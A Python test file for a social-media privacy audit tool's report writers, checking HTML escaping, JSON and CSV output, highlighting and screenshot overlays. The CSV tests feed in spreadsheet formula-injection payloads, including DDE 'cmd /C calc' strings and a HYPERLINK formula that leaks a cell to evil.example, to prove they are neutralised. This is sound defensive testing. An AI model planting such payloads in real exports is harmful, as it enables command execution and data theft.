"""The report files: self-contained HTML, JSON with every finding, and a spreadsheet-safe CSV."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

from safeside.engine.results import Concern, Entity, Evidence
from safeside.footprint import run_audit, write_reports
from safeside.footprint.overlay import flagged_lines, overlay_svg
from safeside.highlight import Piece, pieces
from safeside.ingest import ImportReport, Post, Preview, SourceRef, TextLine
from safeside.taxonomy import Severity
from safeside.testing import analysis as make

from .conftest import batch, post


def test_html_report_is_self_contained_and_escapes_post_text(
    posts: list[Post], tmp_path: Path
) -> None:
    result = run_audit(posts, mode="own", source="twitter.zip", analyze=batch)

    paths = write_reports(result, tmp_path / "out")
    html = paths["html"].read_text(encoding="utf-8")

    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:|//)""", html)  # nothing fetched
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert '<mark title="confidentiality: the word &#39;Kayden&#39;">Kayden</mark>' in html
    assert "Suggested step: Delete this post" in html
    assert "Restrict who can see this post" in html
    assert "Could identify someone you support" in html  # the concern's plain-English title
    assert "<svg" in html and "1 post has no date" in html
    # Most severe first: the critical post comes before the high one.
    assert html.index("alert(1)") < html.index("did so well")


def test_json_and_csv_list_every_finding(posts: list[Post], tmp_path: Path) -> None:
    report = ImportReport(source="twitter.zip", files_read=1)
    result = run_audit(posts, mode="own", analyze=batch, import_report=report)

    paths = write_reports(result, tmp_path)

    data = json.loads(paths["json"].read_text(encoding="utf-8"))
    assert data["schema"] == "safeside.footprint/1"
    assert data["posts_analysed"] == 6 and len(data["findings"]) == 4
    first = data["findings"][0]
    assert first["step"] == "delete"
    assert first["analysis"]["severity"] == "critical"
    assert first["post"]["source"] == {
        "file": "data/tweets.js",
        "archive": "twitter.zip",
        "record": 4,
        "line": None,
    }
    assert data["by_month"]["2024-03"] == {"posts": 2, "risky": 2}
    assert data["import"]["files_read"] == 1

    with paths["csv"].open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [r["severity"] for r in rows] == ["critical", "high", "medium", "medium"]
    assert rows[1]["concerns"] == "confidentiality"
    assert rows[1]["source"] == "twitter.zip › data/tweets.js, record 2"


def test_csv_cells_cannot_become_formulas(tmp_path: Path) -> None:
    result = run_audit([post("=HYPERLINK(Kayden)")], analyze=batch)
    paths = write_reports(result, tmp_path)
    with paths["csv"].open(encoding="utf-8-sig", newline="") as stream:
        (row,) = list(csv.DictReader(stream))
    assert row["text"] == "'=HYPERLINK(Kayden)"


def test_no_csv_cell_from_an_archive_can_become_a_formula(tmp_path: Path) -> None:
    """Author, address, platform, kind and file names come from the archive too."""
    hostile = Post(
        platform="+cmd|' /C calc'!A0",
        text="-1+1 Kayden",
        source=SourceRef("@SUM(1+1)*cmd|' /C calc'!A0.js", archive="=evil.zip", record=0),
        author='=HYPERLINK("https://evil.example/?leak="&A1, "click")',
        url="@SUM(1+1)",
        kind="\tpost",
    )
    result = run_audit([hostile], analyze=batch)
    paths = write_reports(result, tmp_path)

    with paths["csv"].open(encoding="utf-8-sig", newline="") as stream:
        (row,) = list(csv.DictReader(stream))
    assert row["author"] == "'" + hostile.author
    assert row["url"] == "'@SUM(1+1)"
    assert row["text"] == "'-1+1 Kayden"
    assert row["platform"] == "'+cmd|' /C calc'!A0"
    assert row["kind"] == "'\tpost"
    assert row["source"].startswith("'=evil.zip")
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [name for name, cell in row.items() if cell.startswith(formula_starts)]


def test_highlight_pieces_carry_titles_and_cues() -> None:
    (analysis,) = batch(["Kayden lives on the estate"], "own")
    assert pieces(analysis) == [
        Piece(
            "Kayden",
            ["Could identify someone you support"],
            concern=True,
            notes=["confidentiality: the word 'Kayden'"],
        ),
        Piece(" lives on the "),
        Piece(
            "estate",
            ["Exposes your own or your family's safety details"],
            concern=True,
            notes=["self_exposure: the word 'estate'"],
        ),
    ]
    assert pieces(analysis)[0].note == "confidentiality: the word 'Kayden'"


def test_overlapping_spans_share_a_piece() -> None:
    found = make(
        "call Kayden now",
        concerns=[
            Concern("threat", 0.9, Severity.HIGH, [Evidence(0, 11, "call Kayden", "call")], "")
        ],
        entities=[Entity("PERSON", 5, 11, "Kayden", 0.9, "t")],
    )
    assert [(p.text, p.labels, p.concern, p.note) for p in pieces(found)] == [
        ("call ", ["Threat of violence or harm"], True, "threat: call"),
        ("Kayden", ["Threat of violence or harm", "name"], True, "threat: call; PERSON"),
        (" now", [], False, ""),
    ]


def test_screenshot_findings_are_boxed_on_the_image(tmp_path: Path) -> None:
    lines = (
        TextLine("Lovely weather", (10, 10, 200, 40), 0.99),
        TextLine("Kayden is at contact", (10, 60, 300, 90), 0.98),
    )
    shot = Post(
        platform="screenshot",
        kind="screenshot",
        text="Lovely weather\nKayden is at contact",
        source=SourceRef("shot.png"),
        lines=lines,
        preview=Preview("data:image/jpeg;base64,AAAA", 400, 100),
    )
    (analysis,) = batch([shot.text], "review")

    assert flagged_lines(shot, analysis) == [False, True]
    svg = overlay_svg(shot, analysis)
    assert '<image href="data:image/jpeg;base64,AAAA" width="400" height="100"/>' in svg
    assert svg.count('class="flag"') == 1 and 'x="6" y="56" width="298" height="38"' in svg

    paths = write_reports(run_audit([shot], mode="review", analyze=batch), tmp_path)
    assert 'class="shot"' in paths["html"].read_text(encoding="utf-8")
